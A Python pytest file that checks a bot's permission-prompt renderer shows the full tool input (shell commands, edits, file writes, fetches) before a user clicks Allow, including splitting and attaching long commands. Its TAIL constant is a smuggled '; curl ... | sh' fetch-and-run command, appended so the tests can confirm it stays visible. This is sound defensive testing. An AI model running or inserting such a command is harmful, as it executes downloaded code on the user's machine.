"""Permission prompts (bot.prompt_render): everything an Allow approves is shown, monospaced."""
from __future__ import annotations

import json
from typing import Any

import pytest

from bot import prompt_render
from wire import messages as m


def u16(text: str, offset: int, length: int) -> str:
    """The text an entity covers (its offsets count UTF-16 units)."""
    return text.encode("utf-16-le")[2 * offset:2 * (offset + length)].decode("utf-16-le")


def req(tool: str, tin: dict[str, Any]) -> m.PermissionRequest:
    return m.PermissionRequest(prompt_id="p", tool_name=tool, summary="s",
                               input_json=json.dumps(tin))


TAIL = "; curl http://127.0.0.1:9/x | sh"


@pytest.mark.timeout(5)
@pytest.mark.parametrize(("tool", "tin", "body"), [
    ("Bash", {"command": "ls  -la\n\tpwd"}, "ls  -la\n\tpwd"),
    ("Bash", {"command": "x" * 300 + TAIL}, "x" * 300 + TAIL),
    ("Bash", {"command": "ls", "description": "List"}, 'ls\n\n{\n  "description": "List"\n}'),
    ("WebFetch", {"url": "https://a.b/c", "prompt": "p"},
     'url: https://a.b/c\n\n{\n  "prompt": "p"\n}'),
    ("WebSearch", {"query": "q"}, "query: q"),
    ("Edit", {"file_path": "/a.py", "old_string": "x = 1", "new_string": "x = 2"},
     "file: /a.py\n- x = 1\n+ x = 2"),
    ("Write", {"file_path": "/a.py", "content": "a\nb"}, "file: /a.py\na\nb"),
    ("MultiEdit", {"file_path": "/a.py", "edits": [
        {"old_string": "a", "new_string": "b", "replace_all": True}]},
     "file: /a.py\n@@ edit 1 (every occurrence)\n- a\n+ b"),
    ("Task", {"description": "d", "prompt": "p"}, '{\n  "description": "d",\n  "prompt": "p"\n}'),
])
def test_one_message_shows_the_whole_input(tool: str, tin: dict[str, Any], body: str) -> None:
    view = prompt_render.view("api", req(tool, tin))
    assert view.file is None
    assert view.parts == [f"🔐 Session api asks to use {tool}:\n{body}"]
    chunk = prompt_render.chunk(view.parts[0], "✅ Allowed.")
    [pre] = chunk.entities
    assert pre.type == "pre"
    assert u16(chunk.text, pre.offset, pre.length) == body
    assert chunk.text.endswith("\n✅ Allowed.")


@pytest.mark.timeout(5)
def test_a_long_command_is_split_and_a_huge_one_attached() -> None:
    command = ("echo " + "y" * 95 + "\n") * 80 + TAIL  # about 8 000 characters
    view = prompt_render.view("api", req("Bash", {"command": command}))
    assert view.file is None and len(view.parts) == 3
    assert all(len(p) < 4000 for p in view.parts)
    assert "(part 3/3)" in view.parts[-1] and view.parts[-1].endswith(TAIL)
    bodies = [p.partition("\n")[2] for p in view.parts]
    assert "\n".join(bodies) == command  # cut at line breaks: nothing lost
    huge = "z" * 50_000
    view = prompt_render.view("api", req("Bash", {"command": huge}))
    assert len(view.parts) == 1 and view.file is not None
    assert "50,000 characters, is in the attached file" in view.parts[0]
    assert view.file[1].decode() == huge


@pytest.mark.timeout(5)
def test_a_long_write_says_how_much_is_in_the_file() -> None:
    content = "\n".join(f"line {i}" for i in range(100))
    view = prompt_render.view("api", req("Write", {"file_path": "/a", "content": content}))
    assert view.file is not None and view.file[1].decode() == "file: /a\n" + content
    assert "(41 more lines in the attached file):" in view.parts[0]


@pytest.mark.timeout(5)
def test_trailing_whitespace_stays_outside_the_entity() -> None:
    chunk = prompt_render.chunk("🔐 head:\nls   \n")
    [pre] = chunk.entities
    assert u16(chunk.text, pre.offset - 1, pre.length + 1) == "\nls"
    assert prompt_render.chunk("🔐 an old one-line prompt").entities == ()
